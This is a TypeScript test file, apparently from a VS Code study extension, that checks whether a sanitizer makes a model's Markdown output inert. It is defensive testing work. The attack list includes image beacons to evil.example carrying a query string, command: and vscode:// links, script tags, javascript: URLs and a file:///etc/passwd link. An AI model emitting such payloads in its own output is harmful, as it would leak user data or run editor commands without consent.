import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import * as path from 'node:path';
import { pathToFileURL } from 'node:url';
import fc from 'fast-check';
import Markdown, { type Token } from 'markdown-it';
import {
  createInertStream,
  escapeLines,
  escapeText,
  inertInline,
  inertMarkdown,
} from '../../../src/study/markdown/inert';
import { projectFolder } from '../../host/project';
import { isSafeLink } from '../../../src/study/markdown/links';

type Reader = (markdown: string) => string[];

/** The most permissive reader of Markdown: HTML, images and links to anything. */
const trusting = new Markdown({ html: true, linkify: false });
trusting.validateLink = () => true;

/** What could act in a text, alone or on a click, according to markdown-it. */
const byMarkdownIt: Reader = markdown => {
  const found: string[] = [];
  const visit = (token: Token): void => {
    if (token.type === 'image' || token.type.startsWith('html')) found.push(token.type);
    if (token.type === 'link_open' && !isSafeLink(String(token.attrGet('href')))) {
      found.push(`link to ${String(token.attrGet('href'))}`);
    }
    token.children?.forEach(visit);
  };
  trusting.parse(markdown, {}).forEach(visit);
  return found;
};

/** The used part of marked. */
interface Marked {
  lexer(markdown: string): readonly unknown[];
  walkTokens(tokens: readonly unknown[], visit: (token: MarkedToken) => void): unknown;
}

interface MarkedToken {
  readonly type: string;
  readonly raw: string;
  readonly href?: string;
}

/** The same according to marked, including addresses that are linked automatically. */
function byMarked(reader: Marked): Reader {
  return markdown => {
    const found: string[] = [];
    reader.walkTokens(reader.lexer(markdown), ({ type, raw, href = '' }) => {
      if (type === 'image' || type === 'html' || type === 'def') found.push(`${type} ${raw}`);
      else if (type === 'link' && !(raw.startsWith('[') && isSafeLink(href))) {
        found.push(`link to ${href}`);
      }
    });
    return found;
  };
}

/** The patterns of VS Code's editor for links in Markdown (vscode-markdown-languageservice 0.5). */
const editorPatterns = {
  code: /(?<!`)(`+)((?:.+?|.*?(?:(?:\r?\n).+?)*?)(?:\r?\n)?\1)(?!`)/gm,
  links: [
    /(?<!\\)!?\[(?:[^[\]\\]|\\.|\[[^[\]]*\])*\]\(\s*<?(?<href>[^\s()<>]+)/g,
    /(?<!\\)<(?<href>\w+:[^>\s]+)>/g,
    /^[\t ]*(?<!\\)\[(?!\^)(?:\\\]|\\\[|[^\][\n])+\]:[\t ]*<?(?<href>[^<>\s]+)/gm,
  ],
} as const;

/** As VS Code reads it, whose formulas (markdown-it-katex) begin with `$$` and end somewhere below. */
const withFormulas = new Markdown({ html: true });
withFormulas.block.ruler.after(
  'blockquote',
  'math_block',
  (state, start, end, silent) => {
    const lineOf = (line: number) =>
      state.src.slice((state.bMarks[line] ?? 0) + (state.tShift[line] ?? 0), state.eMarks[line]);
    if (!lineOf(start).startsWith('$$')) return false;
    const rest = lineOf(start).slice(2);
    const marks = [...rest.matchAll(/\$\$/g)];
    if (marks.length > 1) return false;
    if (silent) return true;
    let last = start;
    if (marks[0]?.index !== rest.length - 2) {
      do last++;
      while (last < end && !lineOf(last).includes('$$'));
    }
    state.line = Math.min(last + 1, end);
    state.push('math_block', 'math', 0).map = [start, state.line];
    return true;
  },
  { alt: ['paragraph', 'reference', 'blockquote', 'list'] },
);

/**
 * The same according to VS Code's editor, where Ctrl+click opens links, also those that run commands.
 * It takes blocks of code from markdown-it, and looks for all else by patterns.
 */
const byEditor: Reader = markdown => {
  const blocks = withFormulas
    .parse(markdown, {})
    .flatMap(({ type, map }) =>
      map && ['code_block', 'fence', 'html_block'].includes(type) ? [map] : [],
    );
  const spans = [...markdown.matchAll(editorPatterns.code)].map(({ 0: whole, index }) => {
    return [index, index + whole.length] as const;
  });
  const lineOf = (at: number) => markdown.slice(0, at).split(/\r\n|\r|\n/).length - 1;
  const isCode = (at: number) =>
    spans.some(([from, to]) => at >= from && at <= to) ||
    blocks.some(([from, to]) => lineOf(at) >= from && lineOf(at) < to);
  return editorPatterns.links.flatMap(pattern =>
    [...markdown.matchAll(pattern)].flatMap(({ 0: whole, index, groups }) => {
      const href = groups?.href ?? '';
      const isLink = /^[a-z-][a-z-]+:/i.test(href) && !isCode(index + whole.indexOf(href));
      return isLink && !isSafeLink(href) ? [`link to ${href}`] : [];
    }),
  );
};

const readers: [name: string, read: Reader][] = [
  ['markdown-it', byMarkdownIt],
  ['editor', byEditor],
];

/**
 * VS Code has marked 14.0.0 in its sources (`src/vs/base/common/marked`), from 1.100 to 1.139 at
 * least; the newest is there for future versions.
 */
const markeds = ['marked-vscode', 'marked'];

async function addMarked(name: string): Promise<void> {
  const ofProject = createRequire(path.join(projectFolder(), 'package.json'));
  // Without one the tests would check nothing: then this fails, and "npm ci" installs it.
  const file = pathToFileURL(ofProject.resolve(name)).href;
  const { marked } = (await import(file)) as { marked: Marked };
  readers.push([name, byMarked(marked)]);
}

function dangers(markdown: string): string[] {
  return readers.flatMap(([name, read]) => read(markdown).map(danger => `${name}: ${danger}`));
}

/** Contexts for inert text: alone, between marks, in a list, in a table, beside plain text. */
function placesOf(text: string): string[] {
  const inline = inertInline(text);
  return [
    inertMarkdown(text),
    `**${inline}**\n\n${inertMarkdown(text)}`,
    `- ${inline} — ${inline}\n- “${escapeText(text)}”, ${inline}`,
    `| a | b |\n| --- | --- |\n| ${inline.replaceAll('|', '\\|')} | ${inline} |`,
    `*${escapeText(text)}* ${inline} ${escapeText(text)} ${inline}`,
    `$(note) ${escapeLines(text)}\n\n${inline}`,
  ];
}

const attacks = [
  '![a](https://evil.example/?q=answer)',
  '![a][b]\n\n[b]: https://evil.example/x.png',
  '[run](command:djangoInterview.resetProgress)',
  '[run](<command:djangoInterview.resetProgress>)',
  '[run](\ncommand:djangoInterview.resetProgress)',
  '[run](  command:x "title")',
  '[run]( &#99;ommand:x)',
  '[run](\\command:x)',
  '[run][a]\n\n[a]: command:x',
  '[run]\n\n[run]:\ncommand:x',
  '> [run]: vscode://x\n\n[run]',
  '- [run]: vscode://x\n\n[run]',
  '[ru\nn]: command:x\n\n[ru n]',
  '<command:djangoInterview.undo>',
  '<vscode://publisher.extension/run>',
  '<img src="https://evil.example/x.png">',
  '<a href="command:x">x</a>',
  '<script>alert(1)</script>',
  '<!--\n```\n-->\n![a](https://evil.example)',
  '<details>\n```\n</details>\n\n![a](https://evil.example)',
  '- a\n  ```\n  code\n![a](https://evil.example)',
  '> ```\n![a](https://evil.example)',
  'a ` b\nc `<img src=x>` d',
  '`` ` <img src=x>',
  '| a | b |\n|---|---|\n| `x | <img src=x> ` | y |',
  '\\`<img src=x>`',
  '`a\\`<img src=x>`',
  '```py `\n![a](https://evil.example)',
  '~~~\n```\n~~~\n![a](https://evil.example)\n```\n<img src=x>',
  '[a](javascript:alert(1))',
  '[a](file:///etc/passwd)',
  '[![a](https://evil.example)](command:x)',
  '!`a`[b](https://evil.example)',
  '!\n[b](https://evil.example)',
  '![',
  ' ~~~\n~~~\n<command:x>',
  '- ~~~\n~~~\n<img src=x>',
  '> ~~~\n~~~\n![a](https://evil.example)',
  '    ~~~\n~~~\n<img src=x>\n~~~\n<img src=x>',
  '1. ```\n   ```\n```\n<img src=x>',
  '](![]()',
  // Where the editor takes code for text.
  '$$\n~~~\n[run](command:x)\n~~~',
  '`[` a](command:x)',
  '$$ a $$ b\n\n~~~\n<command:x>\n~~~\n\n$$',
  '- $$$a$$$\n  ~~~\n  [run](command:x)\n  ~~~',
  '~~~\na ` b\n~~~\nc `[run](command:x)` d',
  '~~~\na ` b\n~~~\nc `[run]( <command:x>)` d `<command:y>` e',
  '~~~\na ` b\n~~~\nc `<vscode://publisher.extension/run>` d',
  '[a](x](command:y)',
  // Where marked differs from markdown-it.
  '```\ncode\n```~\n![a](https://evil.example)\n```',
  '```\ncode\n```\t\n[a](command:x)\n```\n![a](https://evil.example)\n```',
  '~~~\n~~~`\n<img src=x>\n~~~',
  '[ `` ](command:x)`` a',
  '![ `` ](https://evil.example)`` a',
  '~~a `~~ ![a](https://evil.example)`',
  '~`x~ ![a](https://evil.example)`',
  '*a \\`b* `c* ![a](https://evil.example)`',
  '**a < `b** ![a](https://evil.example)` >',
  'x http://evil.example/?q=answer',
  'x www.evil.example y',
  '\\www.evil.example',
  'x ftp://evil.example y',
  'somebody@evil.example',
  'http://evil.example/`x `![a](https://evil.example)`',
  '[a](https://ok.example&#64;evil.example)',
  '[a](https://ok.example(x)@evil.example)',
  '| a | b |\n|---|---|\n| `x | y` `![a](https://evil.example)` `z | w` |',
];

describe("a model's Markdown, made inert", () => {
  for (const name of markeds) {
    before(`is read by ${name}`, () => addMarked(name));
  }

  for (const attack of attacks) {
    it(`takes the danger out of ${JSON.stringify(attack)}`, () => {
      for (const place of placesOf(attack)) assert.deepEqual(dangers(place), [], place);
    });
  }

  it('is tried on attacks that work when they are left as they are', () => {
    assert.deepEqual(
      readers.map(([name]) => name),
      ['markdown-it', 'editor', ...markeds],
    );
    const harmless = attacks.filter(attack => dangers(attack).length === 0);
    assert.ok(harmless.length < 8, harmless.join('\n---\n'));
  });

  it('finds no text that stays dangerous', () => {
    const pieces = fc.constantFrom(
      ...['![', '!', '[', ']', '](', '(', ')', ']:', '[a]', ': ', ' ', '\n', '\n\n', '<', '>', '|'],
      ...['`', '``', '```', '\n```\n', '~~~', '\n~~~\n', '    ', '- ', '> ', '1. ', '\\', '&#33;'],
      ...['command:x', 'https://a.example', 'vscode://x', '<img src=x>', '<!--', '-->', '<a>'],
      ...['|---|---|\n', '# ', 'a', '"', "'", '<command:x>', '\t', '\r\n', '&lt;', '<script>'],
      ...[
        '```~',
        '~',
        '~~',
        '*',
        '**',
        '_',
        '\n|a|b|\n|-|-|\n|',
        '\r',
        '\u2028',
        '\f',
        '\0',
        '$(x)',
        '$$',
        '\n$$ a',
        '[ ]',
      ],
      ...[
        'http://e.x',
        'www.e.x',
        'a@e.xy',
        '(https://a.example)',
        '![a](https://e.x/x.png)',
        '===\n',
        '---\n',
      ],
      ...[
        '[ `` ](command:x) ``',
        '[![a](https://e.x)](command:y)',
        '\n````\n',
        '\n```py\n',
        '\\\\',
        '<https://e.x>',
      ],
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 30 }), list => {
        for (const place of placesOf(list.join(''))) assert.deepEqual(dangers(place), [], place);
      }),
      { numRuns: 100 },
    );
  });

  it('gives the same however the text is cut into pieces', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...attacks, '\n', '\r', '\n\r', 'a `b` c', '```\n', '\u2028')),
        list => {
          const stream = createInertStream();
          const streamed = list.map(piece => stream.add(piece)).join('') + stream.end();
          assert.equal(streamed, inertMarkdown(list.join('')));
        },
      ),
    );
  });

  for (const [what, text] of [
    ['code blocks', '```python\nurl = handlers[key](request)\ndef f() -> list[int]: ...\n```'],
    ['code spans', 'Use `<int:pk>`, `x[1]:`, `f[x](a: 1)` and `"shop:detail"` too.'],
    ['code spans with a bar', 'Use `{{ name|upper }}` and `objects`, too.'],
    [
      'links to documentation',
      'See [the `QuerySet` docs](https://docs.djangoproject.com/en/5.2/?a=1&b=2#x).',
    ],
    ['headings, lists, emphasis', '## A\n\n- **b** and *c*\n\n1. d > e\n\n| a | b |\n|---|---|'],
  ] as const) {
    it(`leaves ${what} as they are`, () => assert.equal(inertMarkdown(text), text));
  }

  it('reads the same where it is written otherwise', () => {
    for (const text of ['d < e', 'x[1]', '`a|b` or `<c>`', 'a ~ b', '![a', 'a \\[b\\] c', '$(x)']) {
      const shown = trusting.renderInline(inertInline(text)).replace(/<\/?code>/g, '');
      assert.equal(shown, trusting.utils.escapeHtml(text.replace(/\\|`/g, '')));
    }
  });

  it('closes what it left open, and cuts what is too long', () => {
    assert.equal(inertMarkdown('```py\nx'), '```py\nx\n```');
    assert.equal(inertMarkdown('~~~~\n'), '~~~~\n~~~~');
    assert.equal(inertMarkdown('[a](https://a.example) b', 10), '&#91;a&#93;(https:…');
  });

  it('keeps plain text as it is to a reader', () => {
    fc.assert(
      fc.property(fc.string(), text => {
        const shown = trusting.renderInline(escapeText(text));
        const wanted = trusting.utils.escapeHtml(text.replace(/\s+/g, ' '));
        assert.equal(shown.trim(), wanted.replaceAll('\0', '\uFFFD').trim());
      }),
    );
    assert.equal(escapeLines('a\n\n  b_c \r\n'), 'a\n\nb\\_c');
  });
});
